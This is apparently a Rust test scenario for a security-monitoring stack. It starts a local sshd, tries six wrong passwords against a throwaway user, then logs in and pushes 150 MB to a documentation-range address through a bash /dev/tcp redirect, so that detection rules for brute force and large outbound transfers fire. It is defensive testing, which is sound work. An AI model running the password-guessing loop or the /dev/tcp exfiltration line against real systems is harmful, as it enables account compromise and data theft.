//! Credential stuffing against a real sshd (Debian's openssh-server) that the scenario starts
//! on a free 127.0.0.1 port with a temporary host key and config, logging with `-E` to the
//! file the stack's guardian-alpha follows; then a successful login and, from the ssh session,
//! a large outbound transfer to an "external" address (TEST-NET-2, added to `lo` for the
//! scenario, so the data never leaves the host but is not loopback traffic to the rules).

use std::{
    net::{TcpListener, TcpStream},
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context, bail};

use super::{Cleanup, Expect, Scenario, Severity, cleanup::unique, would_run};
use crate::run::stack::{Stack, free_loopback_address, output_of};

pub const CREDENTIAL_STUFFING: Scenario = Scenario {
    name: "ssh-credential-stuffing",
    technique: "T1110.001",
    description: "six wrong passwords against a real sshd on 127.0.0.1, then a login that sends 150 MB to 198.51.100.88",
    expect: Expect {
        rules: &[
            "qsc-auth-failures-burst",
            "qsc-login-after-failures",
            "qsc-large-outbound-transfer",
        ],
        min_severity: Severity::Critical,
        confidence: (0.99, 1.0),
        action: would_run("revoke_credential"),
    },
    perform: credential_stuffing,
    patience: Duration::from_secs(30),
    after_action: None,
};

/// The sshd of Debian's openssh-server (installed by `cargo xtask setup`).
const SSHD: &str = "/usr/sbin/sshd";
/// Wrong passwords tried before the right one (the burst rule needs five).
const FAILURES: usize = 6;
/// Where the logged-in session sends its data: TEST-NET-2 (not a private range, so the
/// outbound-transfer rule counts it as leaving the host), on `lo` for the scenario only.
const EXFIL_ADDRESS: &str = "198.51.100.88";
/// Bytes sent: above the 100 MB of `qsc-large-outbound-transfer`.
const EXFIL_BYTES: usize = 150_000_000;

fn credential_stuffing(stack: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
    if !Path::new(SSHD).exists() {
        bail!("{SSHD} is missing: run `cargo xtask setup` (installs openssh-server and sshpass)");
    }
    let user = unique("b");
    cleanup.user(&user)?;
    let password = format!("Qsc-{}-pw", std::process::id());
    let mut chpasswd = Command::new("chpasswd").stdin(Stdio::piped()).spawn()?;
    std::io::Write::write_all(
        chpasswd.stdin.as_mut().context("chpasswd stdin")?,
        format!("{user}:{password}\n").as_bytes(),
    )?;
    drop(chpasswd.stdin.take());
    if !chpasswd.wait()?.success() {
        bail!("chpasswd failed for {user}");
    }
    let address = start_sshd(stack, cleanup, &user)?;
    let port = address.rsplit(':').next().unwrap_or("22").to_owned();
    for attempt in 0..FAILURES {
        let status = ssh(&user, &port, &format!("wrong-{attempt}"), "true").status()?;
        if status.success() {
            bail!("a wrong password was accepted");
        }
    }
    cleanup.loopback_address(EXFIL_ADDRESS)?;
    let (exfil_port, received) = receive_exfiltration()?;
    let command = format!(
        "bash -c 'head -c {EXFIL_BYTES} /dev/zero > /dev/tcp/{EXFIL_ADDRESS}/{exfil_port}'"
    );
    let out = ssh(&user, &port, &password, &command).output()?;
    if !out.status.success() {
        bail!(
            "the login with the right password, or its transfer, failed ({}): {}",
            out.status,
            String::from_utf8_lossy(&out.stderr).trim()
        );
    }
    let received = received
        .join()
        .map_err(|_| anyhow::anyhow!("the receiving thread panicked"))??;
    if received != EXFIL_BYTES {
        bail!("the transfer delivered {received} of {EXFIL_BYTES} bytes");
    }
    Ok(())
}

/// A listener on the exfiltration address whose thread reads one connection to its end;
/// returns its port and the thread (which answers the number of bytes received).
fn receive_exfiltration() -> anyhow::Result<(u16, std::thread::JoinHandle<anyhow::Result<usize>>)> {
    let listener = TcpListener::bind((EXFIL_ADDRESS, 0))
        .with_context(|| format!("cannot listen on {EXFIL_ADDRESS}"))?;
    let port = listener.local_addr()?.port();
    listener.set_nonblocking(true)?;
    let thread = std::thread::spawn(move || -> anyhow::Result<usize> {
        let deadline = Instant::now() + Duration::from_secs(30);
        let mut conn = loop {
            match listener.accept() {
                Ok((conn, _)) => break conn,
                Err(err) if err.kind() == std::io::ErrorKind::WouldBlock => {
                    if Instant::now() > deadline {
                        bail!("nothing connected to {EXFIL_ADDRESS} within 30 s");
                    }
                    std::thread::sleep(Duration::from_millis(20));
                }
                Err(err) => return Err(err.into()),
            }
        };
        conn.set_nonblocking(false)?;
        conn.set_read_timeout(Some(Duration::from_secs(30)))?;
        Ok(std::io::copy(&mut conn, &mut std::io::sink())? as usize)
    });
    Ok((port, thread))
}

/// Starts the scenario's sshd; returns its address once it accepts connections.
fn start_sshd(stack: &Stack, cleanup: &mut Cleanup, user: &str) -> anyhow::Result<String> {
    let dir = stack.layout.state.join(unique("-sshd"));
    cleanup.path(&dir);
    std::fs::create_dir_all(&dir)?;
    // sshd's privilege separation folder; Debian's package leaves creating it to its service.
    if !Path::new("/run/sshd").exists() {
        std::fs::create_dir_all("/run/sshd")?;
        cleanup.path("/run/sshd");
    }
    let key = dir.join("host_key");
    output_of(
        Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(&key),
    )?;
    let address = free_loopback_address()?;
    let (host, port) = address.rsplit_once(':').context("address without port")?;
    let config = dir.join("sshd_config");
    std::fs::write(
        &config,
        format!(
            "ListenAddress {host}\nPort {port}\nHostKey {}\nPidFile {}/sshd.pid\n\
             PasswordAuthentication yes\nKbdInteractiveAuthentication no\nUsePAM no\n\
             PermitRootLogin no\nAllowUsers {user}\nMaxAuthTries 10\nStrictModes no\nLogLevel INFO\n",
            key.display(),
            dir.display()
        ),
    )?;
    let sshd = Command::new(SSHD)
        .arg("-D")
        .arg("-f")
        .arg(&config)
        .arg("-E")
        .arg(&stack.layout.auth_log)
        .stdin(Stdio::null())
        .spawn()
        .context("cannot start sshd")?;
    cleanup.child(sshd);
    let deadline = Instant::now() + Duration::from_secs(10);
    while TcpStream::connect(&address).is_err() {
        if Instant::now() > deadline {
            bail!(
                "sshd did not listen on {address} within 10 s; see {}",
                stack.layout.auth_log.display()
            );
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(address)
}

/// `sshpass -p PASSWORD ssh … USER@127.0.0.1 COMMAND`, password authentication only.
fn ssh(user: &str, port: &str, password: &str, command: &str) -> Command {
    let mut cmd = Command::new("sshpass");
    cmd.args(["-p", password, "ssh", "-p", port])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args([
            "-o",
            "PreferredAuthentications=password",
            "-o",
            "PubkeyAuthentication=no",
        ])
        .args(["-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR"])
        .arg(format!("{user}@127.0.0.1"))
        .arg(command)
        .stdin(Stdio::null())
        .stderr(Stdio::piped());
    cmd
}
